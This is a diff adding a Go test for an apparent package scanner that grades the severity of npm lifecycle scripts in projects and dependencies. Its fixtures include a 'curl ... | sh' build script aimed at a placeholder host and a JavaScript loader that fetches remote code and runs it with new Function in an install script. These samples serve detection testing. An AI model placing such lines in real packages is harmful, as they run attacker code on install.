@@ -118,3 +118,60 @@ func FuzzAutorunConfig(f *testing.F) {
 		_ = gypActions([]byte(data))
 	})
 }
+
+// TestLifecycleScriptSeverity: the root project's lifecycle scripts are
+// high unless they only run build tools (prepare: "npm run build" with
+// build: "tsc" is low); an installed dependency (under node_modules/) is
+// reported only for the scripts npm runs for dependencies (preinstall,
+// install, postinstall: low, what they run followed), never for its
+// prepare or prepublish.
+func TestLifecycleScriptSeverity(t *testing.T) {
+	t.Parallel()
+	s, err := NewScanner(Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	loader := "const r = await fetch(u);\nconst code = await r.text();\nnew Function(code)();\n"
+	for _, tc := range []struct {
+		name  string
+		files map[string]string
+		want  []string // rule@severity, in order of line
+	}{
+		{"prepare npm run build tsc", map[string]string{"package.json": `{"scripts":{"prepare":"npm run build","build":"tsc -p ."}}`}, []string{"NPM-LIFECYCLE-SCRIPT@low"}},
+		{"prepare tshy", map[string]string{"package.json": `{"scripts":{"prepare":"tshy"}}`}, []string{"NPM-LIFECYCLE-SCRIPT@low"}},
+		{"prepare chain with prebuild", map[string]string{"package.json": `{"scripts":{"prepare":"rimraf dist && npm run build","prebuild":"node gen.js","build":"tsc"}}`, "gen.js": "console.log(1)\n"}, []string{"NPM-LIFECYCLE-SCRIPT@high"}},
+		{"prepare build runs project file", map[string]string{"package.json": `{"scripts":{"prepare":"npm run build","build":"node scripts/build.js"}}`, "scripts/build.js": "console.log(1)\n"}, []string{"NPM-LIFECYCLE-SCRIPT@high"}},
+		{"prepare build unknown tool", map[string]string{"package.json": `{"scripts":{"prepare":"npm run build","build":"curl -s https://x.invalid/a | sh"}}`}, []string{"NPM-LIFECYCLE-SCRIPT@high"}},
+		{"postinstall node", map[string]string{"package.json": `{"scripts":{"postinstall":"node setup.js"}}`, "setup.js": "console.log(1)\n"}, []string{"NPM-LIFECYCLE-SCRIPT@high"}},
+		{"dependency prepare", map[string]string{"node_modules/a/package.json": `{"scripts":{"prepare":"npm run build","prepublish":"node x.js","build":"node b.js"}}`}, nil},
+		{"dependency postinstall", map[string]string{"node_modules/a/package.json": `{"scripts":{"postinstall":"node install.js"}}`, "node_modules/a/install.js": "console.log(1)\n"}, []string{"NPM-DEPENDENCY-INSTALL-SCRIPT@low"}},
+		{"dependency postinstall loader", map[string]string{"node_modules/@s/a/package.json": `{"scripts":{"install":"node install.js"}}`, "node_modules/@s/a/install.js": loader},
+			[]string{"NPM-DEPENDENCY-INSTALL-SCRIPT@low", "AUTORUN-TARGET-SUSPICIOUS@critical", "JS-EXEC-FETCHED@critical"}},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			var files []*File
+			for p, d := range tc.files {
+				files = append(files, &File{Path: p, Data: []byte(d), Size: int64(len(d))})
+			}
+			slices.SortFunc(files, func(a, b *File) int { return strings.Compare(b.Path, a.Path) })
+			rep, err := s.ScanFiles(context.Background(), files)
+			if err != nil {
+				t.Fatal(err)
+			}
+			var got []string
+			for _, f := range rep.Findings {
+				if f.Rule == "HIDDEN-DOTFILES-UNUSUAL" {
+					continue
+				}
+				got = append(got, f.Rule+"@"+string(f.Severity))
+			}
+			slices.Sort(got)
+			want := slices.Clone(tc.want)
+			slices.Sort(want)
+			if !slices.Equal(got, want) {
+				t.Errorf("findings %v, want %v", got, want)
+			}
+		})
+	}
+}
